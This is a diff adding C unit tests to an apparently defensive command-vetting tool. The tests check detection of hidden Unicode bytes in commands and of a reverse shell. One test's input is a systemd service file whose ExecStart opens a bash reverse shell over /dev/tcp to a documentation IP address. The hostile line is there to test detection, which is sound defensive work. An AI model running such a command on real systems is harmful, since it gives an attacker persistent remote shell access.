@@ -192,3 +192,40 @@ TEST(bytes_on_which_readers_disagree)
 			FAIL("row %zu", i);
 	}
 }
+
+TEST(comments_of_a_script_hold_any_name)
+{
+	static const struct {
+		const char *text;
+		bool odd;
+	} rows[] = {
+		{"# by J\xe2\x80\x8bos\xc3\xa9\nls\n", false},
+		{"# by Jos\xe9 \xad\nls\n", false},
+		{"ls\n\f\npwd\n", false},
+		{"# \xe2\x80\xae x\nls\n", true},
+		{"l\xe2\x80\x8bs # x\n", true},
+	};
+
+	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
+		struct bawn_findings f = vet(
+			(struct bawn_subject){.kind = BAWN_KIND_CODE, .text = rows[i].text}, NULL);
+
+		if ((find(&f, "command.odd-bytes") != NULL) != rows[i].odd)
+			FAIL("row %zu", i);
+	}
+}
+
+TEST(what_a_unit_starts_is_vetted)
+{
+	struct bawn_findings f = vet(
+		(struct bawn_subject){
+			.text = "cat >/etc/systemd/system/x.service <<E\n[Service]\n"
+				"ExecStart=-/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'\nE\n"},
+		NULL);
+
+	ASSERT_TRUE(find(&f, "command.reverse-shell") != NULL);
+	f = vet((struct bawn_subject){.text = "cat >/etc/systemd/system/x.service <<E\n[Service]\n"
+					      "ExecStart=/srv/app/serve\nE\n"},
+		NULL);
+	ASSERT_TRUE(find(&f, "command.reverse-shell") == NULL);
+}
